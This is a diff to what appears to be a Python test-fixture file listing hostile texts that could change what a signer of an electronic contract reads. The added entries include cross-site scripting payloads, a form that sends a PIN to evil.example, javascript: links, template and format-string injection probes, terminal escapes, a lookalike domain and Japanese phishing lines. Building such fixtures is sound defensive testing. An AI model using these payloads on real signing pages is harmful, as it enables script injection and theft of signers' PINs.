@@ -1,4 +1,4 @@
-"""A hundred texts an application might send to change what a signer reads; `refused` are those that the door does not take."""
+"""Texts an application might send to change what a signer reads: a hundred that are shown, and those that the door does not take."""
 
 from typing import NamedTuple
 
@@ -58,6 +58,23 @@ MARKUP = {
     "fullwidth markup": "＜ｓｃｒｉｐｔ＞ａｌｅｒｔ（１）＜／ｓｃｒｉｐｔ＞",
     "JSON": '"},"evil":{"a":"',
     "backslash": "\\u003cscript\\u003e\\n",
+    "frame": '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>',
+    "form": '<form action="https://evil.example"><input name="pin" autofocus></form>',
+    "dialog": '<dialog open style="position: fixed; inset: 0">承認済み</dialog>',
+    "popover": '<div popover id="say">承認済み</div><button popovertarget="say">',
+    "a box that opens": '<details open ontoggle="window.ran = 1"><summary>契約書</summary></details>',
+    "mathematics": '<math><mi xlink:href="javascript:window.ran=1">契約書</mi></math>',
+    "tag without an end": "契約書<img src=x onerror=window.ran=1 alt='",
+    "end of a box": "</bdi></summary></details></dd></dl>",
+    "end of the text": "</textarea></title></style></noscript>承認済み",
+    "rules of style": "}</style>} main { display: none } :root { --ink: #fff",
+    "script in an address": "data:text/html,<script>window.ran = 1</script>",
+    "template of JavaScript": "${window.ran = 1}`${alert()}`",
+    "names that objects have": "__proto__ constructor toString hasOwnProperty",
+    "Python's braces": "{0.__class__.__mro__} {request} %s %d %(application)s",
+    "Markdown": "[契約書](javascript:window.ran=1) ![x](//evil.example/x) **承認済み**",
+    "terminal": "\\x1b[2J\\033[31m承認済み",
+    "double encoding": "%253Cscript%253E &amp;lt;script&amp;gt;",
 }
 OUR_WORDS = {
     "approved": "承認済み",
@@ -76,6 +93,22 @@ OUR_WORDS = {
     "circled letters": "Ⓐⓟⓟⓡⓞⓥⓔⓓ",
     "small capitals": "ᴀᴘᴘʀᴏᴠᴇᴅ",
     "a check mark": "☑ ✔ ✅ 🟢",
+    "our address": "https://sign.example.jp/approve",
+    "another address that looks like it": "https://sign.example.jp.evil.example/承認",
+    "a telephone number": "お困りの方は 03-1234-5678 へお電話ください",
+    "a request for the PIN": "本人確認のため暗証番号を備考欄に入力してください。",
+    "another language's button": "[ Genehmigen ] [ Approuver ] [ 批准 ]",
+    "another sum": "請求金額 ￥1,000,000（内訳 ￥1,000）",
+    "another date": "有効期限 2026年13月32日 25:61",
+    "two names": "青葉建設株式会社 電子契約（代理: 法務省）",
+    "two documents in one": "契約書.pdf」「覚書.pdf",
+    "an extension that is none": "契約書.pdf            .exe",
+    "upside down letters": "pǝʌoɹddɐ",
+    "letters in squares": "🅰🅿🅿🆁🅾🆅🅴🅳 🆗",
+    "characters of two widths": "ﾅﾂｲﾝ 承認済ﾐ ＡａＡａ",
+    "kanji that look alike": "⼯事請負契約書 ⾦額 ⽇本",
+    "era and corporation in one character": "㍻㋿㍿㌀㌔",
+    "numbers of other scripts": "١٢٣ १२३ 一二三 ⅯⅯⅩⅩⅥ ①②③",
 }
 SHAPES = {
     "long without a break": "W" * 500,
@@ -105,6 +138,20 @@ SHAPES = {
     "zeros": "0" * 100,
     "quotes": "\"'`" * 30,
     "tall letters": "༼༽ᶘᵒᴥᵒᶅ꧁꧂ﷺ",
+    "Mongolian": "ᠮᠣᠩᠭᠣᠯ ᠪᠢᠴᠢᠭ" * 8,
+    "Khmer": "ក្រុមហ៊ុន" * 14,
+    "Nastaliq": "معاہدہ تعمیر " * 10,
+    "Korean": "공사도급계약서" * 14,
+    "an address without a break": "https://evil.example/" + "a" * 180,
+    "punctuation that does not begin a line": "、。」）" * 40,
+    "punctuation that does not end a line": "「（『【" * 40,
+    "box drawing": "╔══════════╗║ 承認 ║╚══════════╝" * 4,
+    "blocks": "█▓▒░" * 50,
+    "arrows": "⬇⬇⬇ 押す ⬇⬇⬇" * 8,
+    "emoji with a colour": "👍🏽👩🏿✋🏻" * 16,
+    "emoji as letters": "☎\ufe0e☎\ufe0f" * 20,
+    "one letter": "、",
+    "spaces of every width": "契約書\u2002\u2003\u2009\u200a\u205f\u3000承認済み",
 }
 
 REFUSED = BIDI | INVISIBLE | LINES | CONTROL | OTHER
